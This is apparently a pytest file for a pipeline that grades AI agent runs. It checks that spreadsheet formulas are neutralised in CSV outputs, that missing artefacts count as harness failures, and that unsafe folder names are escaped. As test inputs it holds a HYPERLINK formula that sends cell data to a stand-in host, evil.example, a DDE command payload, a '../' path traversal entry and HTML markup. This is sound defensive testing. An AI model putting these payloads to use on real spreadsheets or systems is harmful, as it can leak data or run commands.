"""The pipeline on hostile or incomplete runs: cells a spreadsheet would run, traces summary.json names but lacks."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import orjson
import pyarrow.parquet as pq

from tests.dabench.example import EXAMPLE
from tracegrade.dabench import EvalOptions, PipelineOptions, run_pipeline
from tracegrade.runs import read_manifest

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def copy_run(tmp_path: Path) -> Path:
    runs = tmp_path / "runs"
    shutil.copytree(EXAMPLE / "runs", runs)
    return runs


def evaluate(runs: Path, out: Path) -> None:
    options = EvalOptions(run="demo-run", runs_root=runs, data_root=EXAMPLE / "data", output=out)
    run_pipeline(options, PipelineOptions(figures=False))


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_csv_files_neutralise_formulas_from_traces_and_predictions(tmp_path: Path) -> None:
    runs = copy_run(tmp_path)
    (runs / "demo-run/task_1/prediction.csv").write_text(f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n@SUM(1)\n')
    summary = orjson.loads((runs / "demo-run/summary.json").read_bytes())
    summary["tasks"][2]["failure_reason"] = "=cmd|' /C calc'!A0"
    (runs / "demo-run/summary.json").write_bytes(orjson.dumps(summary))
    trace = orjson.loads((runs / "demo-run/task_2/trace.json").read_bytes())
    for step in trace["steps"]:
        step["action"] = "@" + step["action"]
    (runs / "demo-run/task_2/trace.json").write_bytes(orjson.dumps(trace))
    evaluate(runs, tmp_path / "out")
    out = tmp_path / "out"
    assert cells(out / "task_1/answer.csv") == [["'" + HYPERLINK], ["'@SUM(1)"]]
    rows = cells(out / "task_metrics.csv")
    assert "'=cmd|' /C calc'!A0" in [row[rows[0].index("failure_reason")] for row in rows[1:]]
    exact = pq.read_table(out / "task_metrics.parquet").column("failure_reason").to_pylist()
    assert "=cmd|' /C calc'!A0" in exact  # the Parquet tables keep the exact text
    rows = cells(out / "trajectory.csv")
    actions = [row[rows[0].index("action")] for row in rows[1:]]
    assert "'@coordinate" in actions
    assert "@coordinate" in pq.read_table(out / "trajectory.parquet").column("action").to_pylist()
    for path in out.rglob("*.csv"):
        for row in cells(path):
            assert not [c for c in row if c[:1] and c[0] in "=@\t\r"], (path, row)


def test_traces_and_predictions_summary_json_names_but_lacks_lower_harness_health(tmp_path: Path) -> None:
    runs = copy_run(tmp_path)
    for name in ("task_2/trace.json", "task_2/trace_r2.json", "task_1/prediction.csv"):
        (runs / "demo-run" / name).unlink()
    evaluate(runs, tmp_path / "out")
    out = tmp_path / "out"
    rec = orjson.loads((out / "artifact_reconciliation_report.json").read_bytes())
    errors = [(f["task_id"], f["check"]) for f in rec["findings"] if f["severity"] == "error"]
    assert ("task_2", "summary_trace_present") in errors and ("task_1", "summary_prediction_present") in errors
    assert rec["tasks_passed"] < 3
    health = orjson.loads((out / "engineering_health_report.json").read_bytes())
    assert health["harness"]["status"] != "HEALTHY" and health["harness"]["score"] < 9
    assert health["evaluated_from"] == {
        "tasks": 3, "with_trace": 2, "with_prediction": 1, "named_traces_missing": 1, "named_predictions_missing": 1,
    }
    text = (out / "engineering_health_report.txt").read_text()
    assert "3 tasks evaluated: 2 from a trace, 1 with a prediction.csv; missing though summary.json names them: " \
        "1 traces, 1 predictions" in text
    assert read_manifest(out)["metadata"]["named_files_missing"] == {"prediction.csv": ["task_1"], "trace": ["task_2"]}


def test_a_prediction_the_run_lists_but_lacks_is_a_harness_failure_not_the_agents(tmp_path: Path) -> None:
    runs = copy_run(tmp_path)
    (runs / "demo-run/task_1/prediction.csv").unlink()  # summary.json lists it; the agent answered in its trace
    out = tmp_path / "out"
    options = EvalOptions(run="demo-run", runs_root=runs, data_root=EXAMPLE / "data", output=out)
    run_pipeline(options, PipelineOptions(figures=False, mode="research"))
    rows = {r["task_id"]: r for r in pq.read_table(out / "task_metrics.parquet").to_pylist()}
    task = rows["task_1"]
    assert (task["outcome_status"], task["outcome_error_type"], task["failure_category"], task["root_cause"]) == (
        "missing_artefact", "missing_artefact", "HARNESS_INPUT_FAILURE", "missing_artefact")
    assert task["failure_agent"] == "harness" and task["failure_attribution_stage"] is None
    assert rows["task_3"]["failure_category"] == "TOOL_EXECUTION_FAILURE"  # listed nothing: the agent's own failure
    health = orjson.loads((out / "engineering_health_report.json").read_bytes())
    assert health["failure_categories"]["HARNESS_INPUT_FAILURE"] == 1
    assert (health["quality"]["tasks_with_gold"], health["quality"]["missing_artefacts"]) == (2, 1)  # answer unknown
    assert health["evaluated_from"]["named_predictions_missing"] == 1
    report = orjson.loads((out / "report.json").read_bytes())
    sections = {s["id"]: s for s in report["sections"]}
    for name in ("failure-categories", "failure-stages", "outcome-errors"):  # the agent's failures only
        assert "HARNESS_INPUT_FAILURE" not in str(sections[name]["rows"]) and "missing_artefact" not in str(
            sections[name]["rows"])
        assert any("Left out: 1 task whose prediction.csv summary.json lists is absent" in n
                   for n in sections[name]["notes"])
    paper = (out / "paper_tables.md").read_text()
    assert "Left out: 1 task" in paper and paper.splitlines()[2].startswith("Harness health: ")
    assert "1 predictions missing though summary.json names them" in paper.splitlines()[2]
    assert "Harness health: " in (out / "paper_tables.tex").read_text()


def test_every_listed_task_is_evaluated_or_named_in_a_finding(tmp_path: Path) -> None:
    """Folder names with a space or markup are evaluated (and escaped); an entry that names no folder is an error."""
    runs = copy_run(tmp_path)
    run = runs / "demo-run"
    (run / "task_2").rename(run / "task 2")
    (run / "task_3").rename(run / "task_<i>3")
    summary = orjson.loads((run / "summary.json").read_bytes())
    summary["tasks"][1]["task_id"], summary["tasks"][2]["task_id"] = "task 2", "task_<i>3"
    summary["tasks"].append({"task_id": "../task_9", "succeeded": False, "failure_reason": None})
    (run / "summary.json").write_bytes(orjson.dumps(summary))
    evaluate(runs, tmp_path / "out")
    out = tmp_path / "out"
    ids = pq.read_table(out / "task_metrics.parquet").column("task_id").to_pylist()
    assert ids == ["task_1", "task 2", "task_<i>3"]
    assert (out / "task 2" / "task_replay.json").is_file() and (out / "task_<i>3" / "task_replay.json").is_file()
    rec = orjson.loads((out / "artifact_reconciliation_report.json").read_bytes())
    unusable = [f for f in rec["findings"] if f["check"] == "summary_entry_usable"]
    assert [(f["task_id"], f["severity"]) for f in unusable] == [("summary.json tasks[3]", "error")]
    assert "tasks[3] has no usable task_id" in unusable[0]["message"] and rec["tasks_checked"] == 4
    health = orjson.loads((out / "engineering_health_report.json").read_bytes())
    assert health["harness"]["status"] != "HEALTHY"
    page = (out / "report.html").read_text()
    assert "task_&lt;i&gt;3" in page and "task_<i>3" not in page
